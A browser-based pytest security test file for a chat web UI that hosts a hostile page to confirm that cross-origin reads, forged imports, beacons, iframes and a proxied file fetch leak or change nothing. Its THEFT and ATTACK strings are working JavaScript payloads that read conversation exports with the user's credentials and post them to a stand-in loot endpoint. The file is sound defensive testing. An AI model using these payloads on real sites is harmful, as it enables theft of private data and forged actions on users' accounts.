"""What a stranger's web site gets that our user visits, in a real browser, logged in and not."""

import json
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, Page

from tests.api.servers import Server, serving
from tests.security.hostile_site import HostileSite, hostile_site
from webui.credentials import Credentials
from webui.storage import Role, Storage

pytestmark = pytest.mark.browser
SECRET = "社外秘の合言葉"
PASSWORD = "correct horse"
PUBLIC_LOOPBACK = ("-m", "tests.security.public_loopback")
THEFT = """<script>
fetch("/export/all.json").then(r => r.text())
  .then(text => fetch("LOOT", {method: "POST", mode: "no-cors", body: text}));
</script>"""
# Everything that a page can try from its own origin; what it reads goes to LOOT.
ATTACK = """<!doctype html><meta charset="utf-8"><body><script>
const ours = "OURS", loot = text => fetch("LOOT", {method: "POST", mode: "no-cors", body: text});
const tried = [];
const attempt = (name, promise) => tried.push(promise.then(
  text => text && loot(name + " " + text), () => {}));
const json = {"content-type": "application/json"};
for (const path of ["/export/all.json", "/", "/login", "/activity", "/gradio_api/queue/data"]) {
  attempt("read", fetch(ours + path, {credentials: "include"}).then(r => r.text()));
  attempt("opaque", fetch(ours + path, {mode: "no-cors", credentials: "include"})
    .then(r => r.text()));
}
for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
  attempt("post", fetch(ours + "/import", {method: "POST", mode: "no-cors",
    credentials: "include", headers: {"content-type": kind}, body: FORGED}).then(r => r.text()));
attempt("json", fetch(ours + "/import", {method: "POST", credentials: "include",
  headers: json, body: FORGED}).then(r => r.text()));
navigator.sendBeacon(ours + "/import", FORGED);
navigator.sendBeacon(ours + "/import", new Blob([FORGED]));
navigator.sendBeacon(ours + "/logout", "{}");
for (const path of ["/export/all.json", "/"]) {
  const script = document.createElement("script");
  script.src = ours + path; document.body.append(script);
  const image = new Image(); image.src = ours + path;
  const frame = document.createElement("iframe");
  frame.src = ours + path; frame.onload = () => {
    try { loot("frame " + frame.contentDocument.body.textContent) } catch {} };
  document.body.append(frame);
}
const form = document.createElement("form");
form.action = ours + "/import"; form.method = "post"; form.target = "_blank";
form.enctype = "text/plain"; document.body.append(form); form.submit();
Promise.all(tried).then(() => document.title = "done");
</script>"""
FORGED = json.dumps(
    {
        "kajogaki": 1,
        "conversations": [
            {
                "title": "偽造", "title_is_auto": False, "system_prompt": "", "sampling": {},
                "model_id": "", "created_at": 1.0, "updated_at": 1.0, "leaf": None, "messages": [],
            }
        ],
    }
)  # fmt: skip


@pytest.fixture(scope="module", params=["alone", "logged in"])
def victim(
    request: pytest.FixtureRequest, standin: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Server, str]]:
    """A server with one conversation, and whose it is ("local": nobody has to log in)."""
    folder = tmp_path_factory.mktemp("victim")
    is_alone = request.param == "alone"
    owner = "local" if is_alone else "taro"
    options = () if is_alone else ("--login", "on")
    (folder / "data").mkdir()
    if not is_alone:
        Credentials(folder / "data").set_password(owner, PASSWORD)
    storage = Storage(folder / "data" / "kajogaki.db")
    made_id = storage.create_conversation(owner).id
    storage.add_message(owner, made_id, Role.USER, SECRET, parent_id=None)
    storage.close()
    with serving(folder, *options, program=PUBLIC_LOOPBACK) as server:
        yield server, owner


@pytest.fixture
def site(victim: tuple[Server, str]) -> Iterator[HostileSite]:
    with hostile_site({}) as site:
        loot = f"{site.url}/loot"
        site.pages["/x.png"] = THEFT.replace("LOOT", loot)
        attack = ATTACK.replace("OURS", victim[0].url).replace("LOOT", loot)
        site.pages["/"] = attack.replace("FORGED", json.dumps(FORGED))
        yield site


@pytest.fixture
def visitor(victim: tuple[Server, str], browser: Browser) -> Iterator[Page]:
    """A browser whose user works with Kajogaki, logged in where that is needed."""
    server, owner = victim
    context = browser.new_context()
    page = context.new_page()
    if owner != "local":
        page.goto(server.url + "/login")
        page.locator("[name=user]").fill(owner)
        page.locator("[name=password]").fill(PASSWORD)
        page.locator("button").click()
    else:
        page.goto(server.url)
    page.locator("#composer textarea").wait_for()
    own = page.evaluate("fetch('/export/all.json').then(answer => answer.text())")
    assert SECRET in own, "the page itself reads its conversations"
    yield page
    context.close()


def titles(server: Server, owner: str) -> list[str]:
    storage = Storage(server.folder / "data" / "kajogaki.db")
    found = [storage.conversation(owner, one.id).title for one in storage.conversations(owner)]
    storage.close()
    return found


def test_a_strangers_page_reads_and_writes_nothing(
    victim: tuple[Server, str], site: HostileSite, visitor: Page
) -> None:
    visitor.goto(site.url + "/")
    visitor.wait_for_function("document.title === 'done'")
    visitor.wait_for_timeout(500)  # for beacons and frames, which tell nobody when they are done
    assert "/" in site.asked
    assert not site.loot
    assert "偽造" not in titles(*victim)
    visitor.goto(victim[0].url)
    visitor.locator("#composer textarea").wait_for()  # and nobody was logged out


@pytest.mark.parametrize("spelling", ["/gradio_api/file/{}", "/gradio_api/file={}"])
def test_no_site_is_served_under_our_name(
    victim: tuple[Server, str], site: HostileSite, visitor: Page, spelling: str
) -> None:
    """Gradio fetched the stranger's page and gave it out as ours: all conversations were his."""
    server, _ = victim
    visitor.goto(site.url + "/empty")
    target = server.url + spelling.format(site.url + "/x.png")
    visitor.evaluate("target => { location = target }", target)
    visitor.wait_for_url("**/gradio_api/**")
    visitor.wait_for_timeout(500)  # for the theft
    assert not site.loot
    assert "/x.png" not in site.asked, "our server has fetched it"
    headers = dict(httpx.get(target).headers)
    assert headers["content-security-policy"].startswith("default-src 'none'; sandbox")


def test_a_link_leads_to_the_page_and_to_nothing_else(
    victim: tuple[Server, str], site: HostileSite, visitor: Page
) -> None:
    server, _ = victim

    def follow(path: str) -> int | None:
        visitor.goto(site.url + "/empty")
        with visitor.expect_navigation() as arrival:
            visitor.evaluate("target => { location = target }", server.url + path)
        return arrival.value.status if arrival.value else None

    assert follow("/") == 200
    visitor.locator("#composer textarea").wait_for()
    assert follow("/login") == 200
    for path in ("/export/all.json", "/export/all.md", "/activity", "/theme.css", "/v1/models"):
        assert follow(path) == 403, path


def test_what_is_not_the_page_runs_nothing(
    victim: tuple[Server, str], site: HostileSite, visitor: Page
) -> None:
    """Even what a user opens there himself: text that somebody has written is only text."""
    server, _ = victim
    for path in ("/health", "/activity", "/nowhere", "/gradio_api/app_id"):
        visitor.goto(server.url + path)
        assert visitor.evaluate("self.origin") == "null", path
